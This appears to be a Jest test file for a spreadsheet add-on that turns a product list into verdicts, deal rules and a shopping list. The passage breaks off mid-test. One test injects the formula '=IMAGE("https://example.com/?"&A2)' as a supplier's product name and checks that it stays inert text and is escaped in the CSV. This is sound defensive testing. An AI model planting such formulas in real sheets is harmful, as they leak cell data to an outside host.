// The List page's side of the server, on the emulated host with formulas worked out: from a pasted list to a shopping list.

import { afterEach, describe, expect, it } from '@jest/globals';
import type { BetweenCalls } from 'apps-script-host/bystanders';
import type { Act } from 'apps-script-host/sheet/acts';
import type { CellValue } from 'apps-script-host/sheet/model';
import { arrivalsOf } from '../../playground/api/state';
import { HIGHLIGHTS } from '../../src/deal/decision-plan';
import { buysOf, summaryOf } from '../../src/deal/offers';
import { AS_LISTED, dealAt } from '../../src/deal/product-card';
import { RULE_NAMES } from '../../src/product/deal-rules';
import { granted, US_ASINS } from '../doors/bulk-list';
import {
  analyze,
  changeRules,
  columnOf,
  type DealWorld,
  dealsPage,
  dealWorld,
  decide,
  filter,
  lookAt,
  offersIn,
  remove,
  rulesIn,
  shop,
  sort,
} from '../doors/deal-list';
import { sampleSize } from '../sample';

let made: DealWorld;

afterEach(() => made.world.stop());

const HEADERS = ['ASIN', 'Title', 'Cost', 'Qty'];
const offers = (count: number): CellValue[][] =>
  US_ASINS.slice(0, count).map((asin, at) => [asin, `Thing ${at}`, 4 + (at % 9), 1 + (at % 3)]);
const FIELDS = ['profit', 'roi', 'fees', 'eligible', 'rank_drops_30d', 'sell_price'];

/** A list that was analyzed and decided on. */
async function desk(
  rows: readonly (readonly CellValue[])[] = [HEADERS, ...offers(8)],
  options: Parameters<typeof dealWorld>[1] = {},
): Promise<DealWorld> {
  made = await dealWorld(rows, options);
  await analyze(made.world, { fields: FIELDS });
  granted(await decide(made.world));
  return made;
}

const calls = () => arrivalsOf(made.world.service()).length;
const shopAt = (world: DealWorld['world']) =>
  world.rpc('deals.shop', { list: null, market: null, cost: null });
const areaOf = (row: number, column: number, rowCount = 1, columnCount = 1) => ({
  ...{ row, column, rowCount, columnCount },
});
const formulaAt = (row: number, column: number) =>
  made.sheet.grid.formulas(made.sheet.id, areaOf(row, column))[0]?.[0] ?? '';
const verdicts = () =>
  made.sheet.values().map((row) => row[made.sheet.values()[0]?.indexOf('Verdict') ?? 0]);
const rules = () => rulesIn(made.world);
const tabOf = (title: string) =>
  made.sheet.grid.sheets().find(({ name }) => name === title)?.id ?? -1;

const OFFERS = sampleSize(500, 200);

describe(`${OFFERS} rows with costs`, () => {
  it('come to a shopping list', async () => {
    await desk([HEADERS, ...offers(OFFERS)]);
    const rows = await offersIn(made.world);
    const summary = summaryOf(rows);
    const { Buy, Maybe, Skip } = summary.verdicts;
    const status = made.sheet.values()[0]?.indexOf('Analysis status') ?? 0;
    const unanswered = made.sheet.values().filter((row, at) => at > 0 && row[status] !== 'OK');
    expect(summary.undecided).toBe(unanswered.length);
    const decidedOn = Buy + Maybe + Skip + summary.verdicts['No verdict'];
    expect(decidedOn + summary.undecided).toBe(OFFERS);
    expect(Buy).toBeGreaterThan(5);
    expect(summary.money).toEqual([expect.objectContaining({ sign: '$' })]);
    expect(summary.reasons.length).toBeGreaterThan(1);
    const buys = buysOf(rows);
    const list = granted(await shop(made.world));
    expect(list).toMatchObject({ tab: 'Shopping list', passing: Buy, buys: Buy });
    const { grid } = made.sheet;
    const id = tabOf('Shopping list');
    const { lastRow, lastColumn } = grid.size(id);
    expect([lastRow, lastColumn]).toEqual([Buy + 2, 17]);
    const [best] = [...buys].sort((one, other) => (other.myRoi ?? 0) - (one.myRoi ?? 0));
    const cost = Number(best?.costs.cost);
    expect(grid.values(id, areaOf(2, 1, 1, 17))).toEqual([
      [
        ...[best?.product.asin, best?.name, 'US', best?.quantity, 1, best?.quantity],
        ...[cost, cost * (best?.quantity ?? 0), cost, '', expect.any(Date), '', ''],
        ...[best?.maxBuy, best?.myProfit, best?.myRoi],
        `https://www.amazon.com/dp/${best?.product.asin}`,
      ],
    ]);
    const paid = buys.reduce(
      (sum, { costs, quantity }) => sum + Number(costs.cost) * Number(quantity),
      0,
    );
    expect(Number(grid.values(id, areaOf(lastRow, 8))[0]?.[0])).toBeCloseTo(paid, 2);
    expect(String(list.csv).split('\r\n')).toHaveLength(Buy + 2);
    // What a person changes in it stays, and it is opened again until the list has changed.
    grid.write(id, 2, 4, [[99]]);
    expect(granted(await shop(made.world))).toMatchObject({ tab: 'Shopping list', isNew: false });
    expect(grid.values(id, areaOf(2, 4))).toEqual([[99]]);
    made.sheet.type(best?.row ?? 0, HEADERS.indexOf('Cost') + 1, cost + 0.5);
    expect(granted(await shop(made.world))).toMatchObject({ tab: 'Shopping list 2', isNew: true });
  }, 120_000);
});

describe('a shopping list', () => {
  it('has names that look like formulas as texts, as a supplier may write anything', async () => {
    const { world, sheet } = await desk([HEADERS, ...offers(8)]);
    const [buy] = buysOf(await offersIn(world));
    if (buy === undefined) throw new Error('There is no Buy.');
    const name = '=IMAGE("https://example.com/?"&A2)';
    sheet.grid.write(sheet.id, buy.row, 2, [[name]]);
    const { csv } = granted(await shop(world));
    const cell = areaOf(2, 2);
    expect(sheet.grid.values(tabOf('Shopping list'), cell)).toEqual([[name]]);
    expect(sheet.grid.formulas(tabOf('Shopping list'), cell)).toEqual([['']]);
    expect(csv).toContain(`,"'=IMAGE(""https`);
  });

  it('is not made where rows move while it is read, so that no product has the cost of another', async () => {
    let left = 0;
    const betweenCalls: BetweenCalls = ({ operation }) => {
      if (operation !== 'spreadsheet.read.getValues' || left === 0) return [];
      left -= 1;
      const act: Act = { do: 'insertRows', sheetId: made.sheet.id, first: 3, count: 1 };
      return left === 0 ? [act] : [];
    };
    const { world } = await desk([HEADERS, ...offers(8)], { host: { betweenCalls } });
    const said: string[] = [];
    for (let at = 1; at <= 8; at += 1) {
      left = at;
      const { failure } = await shopAt(world);
      said.push(failure?.message ?? '');
    }
    expect(said).toContainEqual(expect.stringMatching(/is no longer where it was.*Look again/));
  });

  it('pays the price after the discount, and says which quantity cannot be read', async () => {
    const unread: CellValue[] = ['24/48', 2.5, '12 pcs', '10+', 'OOS', -1, new Date(0)];
    const quantities: CellValue[] = [3, ...unread, '2', ''];
    const rows = offers(60).map(([asin, title], at) => [
      ...[asin ?? '', title ?? '', 2, quantities[at % 10] ?? '', 10],
    ]);
    const { world, sheet } = await desk([
      ['ASIN', 'Title', 'Cost', 'Order qty', 'Discount'],
      ...rows,
    ]);
    const { csv } = granted(await shop(world));
    const lines = String(csv).split('\r\n').slice(1, -1);
    const said = new Map(
      lines.map((line) => [/[A-Z0-9]{10}/.exec(line)?.[0], line.split(',').slice(3, 8).join(' ')]),
    );
    const wanted = ['3 1 3 1.8 5.4', '2 1 2 1.8 3.6', '1 1 1 1.8 1.8'];
    const check = 'Check quantity 1  1.8 ';
    const buys = buysOf(await offersIn(world));
    const at = ({ row }: (typeof buys)[number]) => (row - 2) % 10;
    expect(new Set(buys.map(at)).size).toBe(10);
    const ofRow = [wanted[0], ...unread.map(() => check), wanted[1], wanted[2]];
    expect(buys.map(({ product }) => said.get(product.asin))).toEqual(
      buys.map((one) => ofRow[at(one)]),
    );
    expect(sheet.byHeader(2).Cost).toBe(2);
  });

  it('leaves out what is bought 0 times, and is not made where nothing is', async () => {
    const { world, sheet } = await desk([HEADERS, ...offers(8)]);
    const buys = buysOf(await offersIn(world));
    for (const { row } of buys) sheet.type(row, 4, 0);
    const passing = buys.length;
    expect(granted(await shop(world))).toMatchObject({ tab: null, passing, buys: 0 });
    expect(tabOf('Shopping list')).toBe(-1);
  });
});

describe('decisions', () => {
  it('follow an edited cost, without a call and without a script', async () => {
    const { sheet } = await desk();
    const before = sheet.decision(2);
    const asked = calls();
    sheet.type(2, 3, 1_000);
    expect(sheet.decision(2)).toMatchObject({ Verdict: 'Skip' });
    sheet.type(2, 3, '');
    expect(sheet.decision(2)).toMatchObject({ Verdict: 'No verdict', Why: 'No cost' });
    sheet.type(2, 3, 4);
    expect(sheet.decision(2)).toEqual(before);
    expect(calls()).toBe(asked);
  });

  it('stand beside their product after a sort, inserted and deleted rows', async () => {
    const { world, sheet } = await desk();
    const known = new Map(
      sheet
        .values()
        .slice(1)
        .map((row, at) => [row[0], sheet.decision(at + 2)]),
    );
    const check = () => {
      for (const [at, row] of sheet.values().entries())
        if (at > 0 && row[0] !== '') expect(sheet.decision(at + 1)).toEqual(known.get(row[0]));
    };
    const column = columnOf(made, 'myRoi');
    granted(await sort(world));
    const rois = sheet
      .values()
      .slice(1)
      .map((row) => Number(row[column - 1]));
    expect(rois).toEqual([...rois].sort((a, b) => b - a));
    check();
    sheet.people({ do: 'insertRows', sheetId: sheet.id, first: 4, count: 2 });
    check();
    sheet.people({ do: 'deleteRows', sheetId: sheet.id, first: 2, count: 1 });
    check();
    expect(granted(await decide(world))).toMatchObject({ rows: 7, kept: 0 });
    check();
  });

  it('keep what a person typed over one, and put back what was cleared', async () => {
    const { world, sheet } = await desk();
    const column = columnOf(made, 'verdict');
    const before = sheet.decision(4);
    sheet.type(3, column, 'mine');
    sheet.type(4, column, '');
    expect(granted(await decide(world))).toMatchObject({ rows: 8, kept: 1 });
    expect(sheet.decision(3)).toMatchObject({ Verdict: 'mine' });
    expect(sheet.decision(4)).toEqual(before);
    expect(formulaAt(4, column)).toContain('MAYBE_ROI');
    expect(summaryOf(await offersIn(world)).undecided).toBe(1);
  });

  it("are written beside a column of the same title that is somebody's own", async () => {
    const rows = offers(4).map((row) => [...row, 'good']);
    const { world, sheet } = await desk([[...HEADERS, 'Verdict'], ...rows]);
    expect(sheet.values()[1]?.[4]).toBe('good');
    expect(sheet.values()[0]).toContain('Verdict (deal)');
    expect(columnOf(made, 'verdict')).toBe((sheet.values()[0]?.indexOf('Verdict (deal)') ?? 0) + 1);
    expect(summaryOf(await offersIn(world)).undecided).toBe(0);
  });

  it('read columns where they are by now, and not where they were at the look', async () => {
    made = await dealWorld([HEADERS, ...offers(4)]);
    const { world, sheet } = made;
    await analyze(world, { fields: FIELDS });
    const seen = await lookAt(world);
    sheet.people({ do: 'insertColumns', sheetId: sheet.id, first: 2, count: 1 });
    expect(granted(await decide(world, seen))).toMatchObject({ rows: 4 });
    const profit = sheet.decision(2)['My profit'];
    sheet.type(2, 4, 5);
    expect(sheet.decision(2)['My profit']).toBeCloseTo(Number(profit) - 1);
    sheet.people({ do: 'deleteColumns', sheetId: sheet.id, first: 4, count: 1 });
    const { failure } = await decide(world, seen);
    expect(failure?.message).toBe('"Cost" is no longer where it was in this sheet. Look again.');
  });

  it.each([
    [1, 2],
    [4, 2],
    [9, 2],
    [4, 1],
  ])(
    'stand in free columns where one is inserted at mark %d before column %d',
    async (at, first) => {
      let left = 0;
      const betweenCalls: BetweenCalls = ({ operation }) => {
        if (operation !== 'spreadsheet.write.addDeveloperMetadata' || left === 0) return [];
        left -= 1;
        const act: Act = { do: 'insertColumns', sheetId: made.sheet.id, first, count: 1 };
        return left === 0 ? [act] : [];
      };
      made = await dealWorld([HEADERS, ...offers(4)], { host: { betweenCalls } });
      const { world, sheet } = made;
      await analyze(world, { fields: FIELDS });
      // The first two marks are those of costs.
      left = at + 2;
      granted(await decide(world));
      expect(left).toBe(0);
      const titles = sheet.values()[0] ?? [];
      for (const title of ['Verdict', 'Why', 'Max buy'])
        expect(titles.filter((one) => one === title)).toHaveLength(1);
      expect(titles).toEqual(expect.arrayContaining(HEADERS));
      for (const row of [2, 3, 4, 5])
        expect(sheet.decision(row).Verdict).toMatch(/^(Buy|Maybe|Skip)$/);
    },
  );

  it('leave what is theirs where a column is inserted once their cells were read', async () => {
    let reads = 0;
    let isRead = false;
    const betweenCalls: BetweenCalls = ({ operation }) => {
      if (/getValues/.test(operation)) return [];
      const isNext = isRead;
      isRead = /getFormulasR1C1/.test(operation);
      if (!isNext) return [];
      reads -= 1;
      return reads === 0
        ? [{ do: 'insertColumns', sheetId: made.sheet.id, first: 2, count: 1 }]
        : [];
    };
    made = await dealWorld([HEADERS, ...offers(4)], { host: { betweenCalls } });
    const { world, sheet } = made;
    await analyze(world, { fields: FIELDS });
    const theirs = () =>
      ['ASIN', 'Title', 'Cost', 'Mine'].map((title) => {
        const [titles = [], ...rows] = sheet.values();
        return rows.map((row) => row[titles.indexOf(title)]);
      });
    sheet.type(1, (sheet.values()[0]?.length ?? 0) + 1, 'Mine');
    const before = theirs();
    // The insertion comes after the second reading.
    reads = 2;
    granted(await decide(world));
    // And once more, where the columns are by then.
    expect(reads).toBe(-2);
    expect(theirs()).toEqual(before);
    for (const row of [2, 3, 4, 5])
      expect(sheet.decision(row).Verdict).toMatch(/^(Buy|Maybe|Skip)$/);
    const { look } = await lookAt(world);
    reads = 1;
    const list = { sheetId: sheet.id, listId: look.listId };
    const { failure } = await world.rpc('deals.remove', list);
    // Their cells before the figures are read, then those at the right end.
    expect([reads, failure?.kind]).toEqual([-1, 'run']);
    expect(theirs()).toEqual(before);
    expect(sheet.decision(2).Verdict).toMatch(/^(Buy|Maybe|Skip)$/);
  });

  it('are not written where columns are protected against the person', async () => {
    made = await dealWorld([HEADERS, ...offers(3)]);
    const { world, sheet } = made;
    await analyze(world, { fields: FIELDS });
    const seen = await lookAt(world);
    const width = sheet.values()[0]?.length;
    const other = 'other@example.com';
    sheet.grid.protect({ sheetId: sheet.id, rectangle: null });
    Object.assign(sheet.document, { editors: [other] });
    const list = { sheetId: sheet.id, listId: seen.look.listId };
    const sent = { list, market: 'US', cost: null };
    const { failure } = await world.rpc('deals.decide', sent, other);
    expect(failure?.kind).toBe('protected');
    expect(sheet.values()[0]).toHaveLength(width ?? 0);
  });

  it('are worked out with a decimal comma', async () => {
    const { sheet } = await desk(undefined, { locale: 'de_DE' });
    expect(verdicts().slice(1)).toEqual(Array(8).fill(expect.stringMatching(/^(Buy|Maybe|Skip)$/)));
    expect(typeof sheet.decision(2)['My profit']).toBe('number');
  });
});

describe('what a list looks like with decisions', () => {
  it('has formats, a frozen header and one rule for each verdict', async () => {
    const { sheet } = await desk();
    const { grid, id } = sheet;
    const column = columnOf(made, 'myProfit');
    expect(grid.numberFormats(id, areaOf(2, column, 1, 3))[0]).toEqual([
      ...['[$$]#,##0.00', '0.0%', '[$$]#,##0.00'],
    ]);
    expect(grid.frozenRows(id)).toBe(1);
    expect(grid.columnWidth(id, columnOf(made, 'why'))).toBe(280);
    const { look } = sheet.features;
    expect(look(id).rules.map(({ values, rectangles }) => [values[0], rectangles.length])).toEqual(
      HIGHLIGHTS.map(({ text }) => [text, 1]),
    );
  });

  it('keeps what a person typed when decisions are taken away, with its header', async () => {
    const { world, sheet } = await desk();
    sheet.type(3, columnOf(made, 'verdict'), 'mine');
    expect(granted(await remove(world))).toMatchObject({ kept: 1 });
    expect(sheet.values()[0]).toContain('Verdict');
    expect(sheet.values()[0]).not.toContain('Why');
    expect(verdicts().filter((cell) => cell !== '')).toEqual(['Verdict', 'mine']);
  });

  it("shows Buys alone, beside a filter of the person's own, and all again", async () => {
    const { world, sheet } = await desk([HEADERS, ...offers(20)]);
    const { grid, id } = sheet;
    grid.setFilter(id, {
      rectangle: areaOf(1, 1, 21, 4),
      hiddenTexts: [{ column: 4, texts: ['3'] }],
    });
    const column = columnOf(made, 'verdict');
    const shown = () =>
      sheet.values().flatMap((row, at) => (grid.isRowHidden(id, at + 1, 'filter') ? [] : [row]));
    const all = shown().length;
    granted(await filter(world, 'Buy'));
    expect(
      shown()
        .slice(1)
        .every((row) => row[column - 1] === 'Buy' && row[3] !== 3),
    ).toBe(true);
    expect(shown().length).toBeLessThan(all);
    granted(await filter(world, null));
    expect(shown()).toHaveLength(all);
    expect(grid.filter(id)?.hiddenTexts).toEqual([{ column: 4, texts: ['3'] }]);
  });

  it('shows Buys alone when the rows behind the filter are put in order', async () => {
    const { world, sheet } = await desk([HEADERS, ...offers(20)]);
    const { grid, id } = sheet;
    const [verdict, roi] = [columnOf(made, 'verdict'), columnOf(made, 'myRoi')];
    const shown = () =>
      sheet.values().filter((_, at) => at > 0 && !grid.isRowHidden(id, at + 1, 'filter'));
    granted(await filter(world, 'Buy'));
    const asins = shown().map((row) => row[0]);
    granted(await sort(world));
    const after = shown();
    expect(new Set(after.map((row) => row[0]))).toEqual(new Set(asins));
    expect(after.map((row) => row[verdict - 1])).toEqual(asins.map(() => 'Buy'));
    const returns = after.map((row) => Number(row[roi - 1]));
    expect(returns).toEqual([...returns].sort((a, b) => b - a));
    expect(returns.length).toBeGreaterThan(1);
  });
});

describe('the tab of rules', () => {
  const rowOf = (label: string) => {
    const { grid } = made.sheet;
    const { lastRow } = grid.size(tabOf('Deal rules'));
    const labels = grid.values(tabOf('Deal rules'), areaOf(1, 1, lastRow));
    return labels.findIndex(([one]) => one === label) + 1;
  };
  /** As a person pastes it, past the dropdown. */
  const pasteRule = (label: string, value: CellValue) =>
    made.sheet.people({
      ...{ do: 'edit', sheetId: tabOf('Deal rules'), contents: [[value]] },
      ...{ row: rowOf(label), column: 3 },
    });

  it('is made once, with every name that formulas read', async () => {
    const { world, sheet } = await desk();
    const names = sheet.features.names().map(({ name }) => name);
    for (const name of Object.values(RULE_NAMES)) expect(names).toContain(name);
    const first = sheet.grid.sheets().length;
    granted(await decide(world));
    expect(sheet.grid.sheets()).toHaveLength(first);
    expect(await rules()).toMatchObject({
      profile: 'Default',
      profiles: [{ name: 'Default', values: { minProfit: 3, minRoi: 0.3, maxFees: null } }],
    });
  });

  it('shows what concerns the markets of the lists, and nothing that formulas alone read', async () => {
    const { world, sheet } = await desk();
    const tab = tabOf('Deal rules');
    const inView = () => {
      const { lastRow } = sheet.grid.size(tab);
      const labels = sheet.grid.values(tab, areaOf(1, 1, lastRow)).map(([label]) => label);
      return labels.filter((_, at) => !sheet.grid.isRowHidden(tab, at + 1, 'user'));
    };
    expect(inView()).toContain('US sales tax on my costs');
    for (const label of ['UK: VAT scheme', 'GBP to USD', '1 of my costs in USD', 'Why says'])
      expect(inView()).not.toContain(label);
    granted(await changeRules(world, { values: { ukScheme: 'Standard' } }));
    expect(inView()).toContain('UK: VAT scheme');
    expect(inView()).not.toContain('GBP to USD');
    granted(await changeRules(world, { currency: 'GBP' }));
    expect(inView()).toContain('GBP to USD');
  });

  it('changes decisions with its numbers and with the profile in use', async () => {
    const { world, sheet } = await desk();
    const before = verdicts();
    const set = async (change: object) => granted(await changeRules(world, change));
    await set({ profile: 'Acme' });
    await set({ values: { minProfit: 9_000, maybeProfit: 8_000 } });
    expect(verdicts().slice(1)).toEqual(Array(8).fill('Skip'));
    await set({ profile: 'Default' });
    expect(verdicts()).toEqual(before);
    expect((await rules()).profiles).toMatchObject([
      { name: 'Default', values: { minProfit: 3 } },
      { name: 'Acme', values: { minProfit: 9_000, minRoi: 0.3 } },
    ]);
    const tab = tabOf('Deal rules');
    const rectangle = { row: 1, column: 2, rowCount: 60, columnCount: 12 };
    sheet.grid.setDropdowns(tab, [{ rectangle, options: ['yes', 'no'] }]);
    const refused = await world.rpc('deals.rules', { values: { minProfit: 1 } });
    expect(refused.failure?.message).toMatch(/^Data validation blocks [A-Z]+\d+\. Change/);
    sheet.grid.setDropdowns(tab, []);
    sheet.people({ do: 'protect', sheetId: tab, rectangle: null });
    const other = 'other@example.com';
    const { failure } = await world.rpc('deals.rules', { values: { minProfit: 1 } }, other);
    expect(failure?.kind).toBe('protected');
  });

  it('asks for a least margin, in the sheet and in a cell, as a percentage or a fraction', async () => {
    const { world, sheet } = await desk();
    const before = sheet.decision(2);
    const mostAt = async () => {
      await world.host.run(world.host.nowMs() + 61_000);
      return (await world.show('ANALYZE_MAX_BUY', US_ASINS[0], 'US', 0)).value;
    };
    const most = Number(await mostAt());
    granted(await changeRules(world, { values: { minMargin: 0.9 } }));
    const { Verdict, Why } = sheet.decision(2);
    expect([Verdict, Why]).toEqual(['Maybe', expect.stringContaining('Margin under 90%')]);
    expect([sheet.decision(2)['Max buy'], await mostAt()]).toEqual([0, 0]);
    pasteRule('Buy: Margin at least', 10);
    const [titles = [], first = []] = sheet.values();
    const price = Number(first[titles.indexOf('Sell price')]);
    // 3 is the least profit.
    expect(await mostAt()).toBeCloseTo(most + 3 - Math.max(3, price / 10), 1);
    pasteRule('Buy: Margin at least', '');
    expect([sheet.decision(2), await mostAt()]).toEqual([before, most]);
  });

  it('has room for four suppliers, and says when it is full', async () => {
    const { world } = await desk();
    for (let number = 2; number <= 4; number += 1)
      expect(await changeRules(world, { profile: `Supplier ${number}` })).toMatchObject({
        ok: true,
        value: null,
      });
    expect(await changeRules(world, { profile: 'One more' })).toMatchObject({ value: 'full' });
    expect(await rules()).toMatchObject({ profile: 'Supplier 4' });
  });

  it('has costs that count for the whole list', async () => {
    const { world, sheet } = await desk();
    const profit = Number(sheet.decision(2)['My profit']);
    const cost = Number(sheet.values()[1]?.[2]);
    granted(await changeRules(world, { values: { pack: 2, prep: 1 } }));
    expect(sheet.decision(2)['My profit']).toBeCloseTo(profit + cost / 2 - 1);
    granted(await changeRules(world, { values: { pack: null, prep: null } }));
    expect(sheet.decision(2)['My profit']).toBe(profit);
  });

  it('decides nothing with a rule that is none of its kind or was deleted, in the sheet, on the card and in a cell', async () => {
    const { world, sheet } = await desk(undefined, { locale: 'de_DE' });
    const before = verdicts();
    const why = () => new Set([2, 3, 4].map((row) => sheet.decision(row).Why));
    const told = async () => {
      const [offer] = await offersIn(world);
      const { inUse } = await rules();
      if (offer === undefined) throw new Error('There is no offer.');
      const card = dealAt(offer, AS_LISTED, inUse, world.host.nowMs());
      await world.host.run(world.host.nowMs() + 61_000);
      const { value } = await world.show('ANALYZE', US_ASINS[0], 'US', 'verdict');
      return [sheet.decision(2).Verdict, card.verdict, value];
    };
    for (const [label, none, usual] of [
      ['Buy: Profit at least', '3.50', 3],
      ['Maybe: ROI at least', '15 percent', 0.15],
      ['Buy: Fees at most', '£5', ''],
      ['Figures go stale after (days)', 'a week', 7],
      ['Must be eligible', 'yes', true],
      ['UK: VAT scheme', 'Standart', ''],
    ] as const) {
      pasteRule(label, none);
      expect([label, ...(await told())]).toEqual([label, ...Array(3).fill('No verdict')]);
      expect(why()).toEqual(new Set(['Check the tab Deal rules']));
      pasteRule(label, usual);
      expect(verdicts()).toEqual(before);
    }
    const overFlag = { row: rowOf('Must be eligible'), column: 2, contents: [[1]] };
    sheet.people({ do: 'edit', sheetId: tabOf('Deal rules'), ...overFlag });
    expect(await told()).toEqual(Array(3).fill('No verdict'));
    expect(why()).toEqual(new Set(['Check the tab Deal rules']));
    sheet.people({ do: 'undo' });
    expect(verdicts()).toEqual(before);
    const first = rowOf('Buy: Rank drops at least');
    sheet.people({ do: 'deleteRows', sheetId: tabOf('Deal rules'), first, count: 1 });
    expect(await told()).toEqual(Array(3).fill('No verdict'));
    expect(why()).toEqual(new Set(['Check the tab Deal rules']));
  });

  it('takes a word of a rule in any case of letters, on the card as in the sheet', async () => {
    await desk();
    pasteRule('UK: VAT scheme', 'standard');
    expect(await rules()).toMatchObject({ inUse: { ukScheme: 'Standard' } });
    expect(made.sheet.decision(2).Verdict).toMatch(/^(Buy|Maybe|Skip)$/);
  });

  it('is found under another name, with rows above and other labels, and made again where it is deleted', async () => {
    const { world, sheet } = await desk();
    const sheetId = tabOf('Deal rules');
    sheet.people({ do: 'renameSheet', sheetId, name: 'Targets' });
    sheet.people({ do: 'insertRows', sheetId, first: 1, count: 2 });
    sheet.people({ do: 'edit', sheetId, row: 6, column: 1, contents: [['Gewinn mindestens']] });
    granted(await changeRules(world, { values: { minProfit: 5 } }));
    expect(await rules()).toMatchObject({
      profile: 'Default',
      profiles: [{ values: { minProfit: 5 } }],
    });
    sheet.people({ do: 'deleteSheet', sheetId });
    granted(await changeRules(world, { values: { minProfit: 6 } }));
    expect((await rules()).inUse).toMatchObject({ minProfit: 6, minRoi: 0.3 });
  });
});

describe('columns of costs', () => {
  const costsFor = async (titles: readonly string[]) => {
    made = await dealWorld([
      ['ASIN', ...titles],
      ...US_ASINS.slice(0, 3).map((asin) => [asin, ...titles.map(() => 2)]),
    ]);
    await analyze(made.world, { market: { kind: 'one', market: 'US' } });
    const { costs } = await lookAt(made.world);
    return Object.fromEntries(Object.entries(costs).map(([key, one]) => [key, one.title]));
  };

  it.each([
    [
      [
        'Case cost',
        'Qty',
        'Case size',
        'Discount %',
        'Multipack',
        'Prep',
        'Shipping',
        'Other costs',
      ],
    ],
    [
      [
        'Pack Price ($)',
        'Quantity',
        'Pack',
        'Supplier discount',
        'Units per sale',
        'Prep fee',
        'Freight',
        'Packaging cost',
      ],
    ],
  ])('are found by titles such as %p', async (titles) => {
    const [cost, quantity, pack, discount, multipack, prep, shipping, other] = titles;
    const meant = { cost, quantity, pack, discount, multipack, prep, shipping, other };
    expect(await costsFor(titles)).toEqual(meant);
  });

  it.each([
    ['Cost', 'Pack size', ['ignored', 'divides', 'multiplies']],
    ['Unit cost', 'Pack', ['ignored', 'multiplies']],
    ['Wholesale price', 'Case pack', ['ignored', 'divides']],
    ['Buy price', 'Units per case', ['ignored', 'divides']],
  ])('are asked for where %s may be that of a unit or of %s', async (cost, pack, uses) => {
    expect(await costsFor([cost, pack])).toEqual({ pack });
    const page = dealsPage(made.world);
    expect(await page.primary()).toBe('1 question left');
    expect(page.unsure()).toEqual(['pack']);
    const meant = page.list().choices.filter(({ column }) => column.title === cost);
    expect(meant.map((one) => one.pack)).toEqual(uses);
    const inputs = { ignored: [], divides: ['pack'], multiplies: ['multipack'] };
    for (const one of meant) {
      await page.actions.chooseCost(one);
      expect(Object.keys(page.list().costs)).toEqual([
        ...['cost', ...inputs[one.pack ?? 'ignored']],
      ]);
    }
  });

  it.each<[readonly string[], object]>([
    [['Cost (GBP)'], {}],
    [['Cost €', 'Unit cost A$'], {}],
    [['Cost £', 'Supplier price (US$)'], { cost: 'Supplier price (US$)' }],
    [['Cost$'], { cost: 'Cost$' }],
    [['Cost (USD, per unit)'], { cost: 'Cost (USD, per unit)' }],
    [['Cost', 'Discount $'], { cost: 'Cost' }],
  ])(
    'in the money of another market are not taken for dollars, nor money for a rate: %p',
    async (titles, costs) => {
      expect(await costsFor(titles)).toEqual(costs);
      const { choices } = await lookAt(made.world);
      const mayBeCosts = titles.filter((title) => !title.startsWith('Discount'));
      expect(choices.map(({ column }) => column.title)).toEqual(mayBeCosts);
    },
  );

  it('in euros are none of a list whose rows name their markets', async () => {
    const titles = ['ASIN', 'Market', 'Cost €', 'Unit cost £'];
    made = await dealWorld([titles, [US_ASINS[0] ?? '', 'US', 4, 5]]);
    await analyze(made.world, { market: { kind: 'column', column: 2 } });
    expect((await lookAt(made.world)).costs).toMatchObject({ cost: { title: 'Unit cost £' } });
  });

  it('that are multiplied by a multipack are those of a unit', async () => {
    const titles = ['Cost', 'Multipack'];
    expect(await costsFor(titles)).toEqual({ cost: 'Cost', multipack: 'Multipack' });
  });

  it('of a unit know no pack', async () => {
    expect(await costsFor(['Unit cost', 'Case size'])).toEqual({ cost: 'Unit cost' });
  });

  it.each([
    [['Cost', 'Case size', 'Unit price'], 'Unit price', undefined],
    [['Unit price', 'Case size', 'Case price'], 'Case price', 'Case size'],
    [['Cost', 'Case size', 'Freight'], 'Freight', 'Case size'],
  ])('of %p know the pack of the one that was chosen, %s', async (titles, title, pack) => {
    made = await dealWorld([
      ['ASIN', ...titles],
      [US_ASINS[0] ?? '', ...titles.map(() => 2)],
    ]);
    await analyze(made.world, { fields: FIELDS });
    const page = dealsPage(made.world);
    await page.primary();
    const fit = page.list().choices.filter(({ column }) => column.title === title);
    const meant = fit.find((one) => (one.pack === 'divides') === (pack !== undefined)) ?? fit[0];
    if (meant !== undefined) await page.actions.chooseCost(meant);
    const { costs } = page.list();
    expect([costs.cost?.title, costs.pack?.title, costs.shipping]).toEqual([
      title,
      pack,
      undefined,
    ]);
  });

  it('are never columns of ours, and ours never take their place', async () => {
    made = await dealWorld([HEADERS, ...offers(4)]);
    const { world, sheet } = made;
    const costs = () => sheet.values().map((row) => row[2]);
    const before = costs();
    for (const fields of [FIELDS, [...FIELDS, 'buy_price']]) {
      await analyze(world, { fields });
      expect(costs()).toEqual(before);
    }
    granted(await decide(world));
    const { look, costs: inUse } = await lookAt(world);
    expect(inUse.cost?.title).toBe('Cost');
    expect(look.columns.map(({ title }) => title)).toEqual(HEADERS.slice(1));
  });

  it('that come later are read by the same decisions, written anew', async () => {
    const { world, sheet } = await desk([['ASIN', 'Title', 'Cost'], ...offers(3)]);
    const [before, cost] = [sheet.decision(2), Number(sheet.values()[1]?.[2])];
    const column = (sheet.values()[0]?.length ?? 0) + 1;
    sheet.type(1, column, 'Shipping');
    sheet.type(2, column, 4);
    expect(granted(await decide(world))).toMatchObject({ kept: 0 });
    expect(sheet.decision(2)['Landed cost']).toBeCloseTo(cost + 4);
    sheet.people({ do: 'deleteColumns', sheetId: sheet.id, first: column, count: 1 });
    expect(granted(await decide(world))).toMatchObject({ kept: 0 });
    expect(sheet.decision(2)).toEqual(before);
  });

  it('stay those of the decisions when they are renamed and moved', async () => {
    const { world, sheet } = await desk();
    const before = sheet.decision(2);
    sheet.type(1, 3, 'Aktion');
    sheet.people({ do: 'insertColumns', sheetId: sheet.id, first: 3, count: 1 });
    const { look, changed } = await lookAt(world);
    expect(changed).toMatchObject([{ role: 'cost', letter: 'D', now: 'Aktion' }]);
    expect(sheet.decision(2)).toMatchObject({ Verdict: 'Check columns', 'My profit': '' });
    const list = { sheetId: look.sheet.id, listId: look.listId };
    granted(await world.rpc('deals.keepBound', { ...list, role: 'cost' }));
    expect((await lookAt(world)).costs.cost).toMatchObject({ column: 4, title: 'Aktion' });
    expect(granted(await decide(world))).toMatchObject({ kept: 0 });
    expect(sheet.decision(2)).toEqual(before);
  });
});

describe('rows that come later', () => {
  it('get their figures from a person who may not write decisions', async () => {
    const { world, sheet } = await desk([HEADERS, ...offers(4)]);
    const other = 'other@example.com';
    const column = columnOf(made, 'verdict');
    const rectangle = { row: 2, column, rowCount: 9, columnCount: 1 };
